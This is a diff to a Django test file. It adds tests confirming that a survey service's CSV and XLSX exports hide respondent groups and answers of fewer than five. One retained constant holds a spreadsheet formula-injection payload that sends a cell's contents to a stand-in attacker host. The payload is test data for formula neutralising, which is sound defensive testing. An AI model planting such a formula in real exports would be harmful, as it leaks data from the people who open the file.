@@ -9,8 +9,10 @@ from openpyxl import load_workbook
 
 from accounts import roles
 from pages.spreadsheets import neutralise_formula
+from privacy import small_groups
 from tests.surveys.test_results import add_response
 from voice.moderation.models import ModeratedText
+from voice.surveys import selectors
 
 INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
 
@@ -225,3 +227,106 @@ def test_the_export_hides_a_groups_answers_to_a_question_the_results_page_hides(
     assert [
         a for _w, a in exported_answers(client, survey, manager, "Did you feel safe?")
     ] == (["Yes"] * 6 + ["No"] * 5)
+
+
+def export_records(client, survey, user, kind: str) -> list[dict]:
+    """The export's rows as dicts, read from the CSV or the XLSX file."""
+    client.force_login(user)
+    response = client.get(reverse(f"survey_admin:export_{kind}", args=[survey.pk]))
+    if kind == "csv":
+        body = b"".join(response.streaming_content).decode("utf-8-sig")
+        return list(csv.DictReader(io.StringIO(body)))
+    content = (
+        b"".join(response.streaming_content) if response.streaming else response.content
+    )
+    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
+    return [dict(zip(rows[0], row)) for row in rows[1:]]
+
+
+NOT_SHOWN = "[fewer than 5: not shown]"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+@pytest.mark.parametrize(
+    ("column", "small_group", "big_group", "shown_value"),
+    [
+        (
+            "Who answered",
+            {"speaker": "parent_carer", "age": "18_plus"},
+            {"speaker": "young_person", "age": "14_15"},
+            "A parent or carer",
+        ),
+        (
+            "Age",
+            {"speaker": "young_person", "age": "16_17"},
+            {"speaker": "young_person", "age": "14_15"},
+            "16 to 17",
+        ),
+    ],
+)
+def test_a_group_under_five_is_hidden_in_every_breakdown_of_both_exports(
+    client, survey, people, kind, column, small_group, big_group, shown_value
+):
+    for _ in range(8):
+        add_response(survey, yes_no=1, **big_group)
+    for _ in range(4):
+        add_response(survey, yes_no=0, **small_group)
+
+    records = export_records(client, survey, people[roles.SERVICE_MANAGER], kind)
+
+    values = [record[column] for record in records]
+    assert shown_value not in values
+    assert values.count(NOT_SHOWN) >= 4
+    # Four hidden rows alone could be told apart, so more are hidden beside them.
+    assert values.count(NOT_SHOWN) >= 5
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_a_groups_answers_under_five_are_hidden_in_both_exports(
+    client, survey, people, kind
+):
+    for rating in (1, 2, None, None, None, None):
+        answers = (
+            {"yes_no": 1} if rating is None else {"yes_no": 1, "emoji_scale": rating}
+        )
+        add_response(survey, speaker="young_person", age="14_15", **answers)
+    for _ in range(5):
+        add_response(
+            survey, speaker="parent_carer", age="18_plus", yes_no=0, emoji_scale=5
+        )
+
+    records = export_records(client, survey, people[roles.SERVICE_MANAGER], kind)
+
+    young = [
+        r["How was today?"] for r in records if r["Who answered"] == "A young person"
+    ]
+    assert young.count(NOT_SHOWN) == 2
+    assert 1 not in young and 2 not in young and "1" not in young
+
+
+@pytest.mark.django_db
+def test_the_exports_hide_groups_by_the_one_rule_in_privacy_small_groups(
+    client, survey, people, monkeypatch
+):
+    """No second copy of "hide the next smallest group": the export asks small_groups."""
+    asked = []
+
+    def spy(counts, total):
+        asked.append(dict(counts))
+        return small_groups.groups_to_hide(counts, total)
+
+    monkeypatch.setattr(selectors, "groups_to_hide", spy)
+    for _ in range(6):
+        add_response(survey, speaker="young_person", age="14_15", yes_no=1)
+    for _ in range(5):
+        add_response(survey, speaker="young_person", age="16_17", yes_no=1)
+    for _ in range(2):
+        add_response(survey, speaker="parent_carer", age="18_plus", yes_no=0)
+
+    groups = exported_groups(client, survey, people[roles.SERVICE_MANAGER])
+
+    assert groups.count((NOT_SHOWN, NOT_SHOWN)) == 7
+    # Once for who answered and age, and once for the answers to the question.
+    assert len(asked) >= 2
